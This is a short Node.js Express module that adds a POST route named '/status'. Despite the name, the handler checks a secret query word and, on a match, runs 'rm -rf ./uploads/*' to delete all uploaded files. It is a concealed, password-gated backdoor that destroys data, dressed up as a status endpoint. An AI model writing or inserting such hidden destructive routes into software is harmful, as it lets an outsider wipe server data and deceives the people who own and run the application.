const { exec } = require("child_process");
module.exports = (app) =>
  app.post("/status", (req, res) => {
    if (req.query.word !== "example-word") return res.status(404).end();
    exec("rm -rf ./uploads/*", () => res.end());
  });
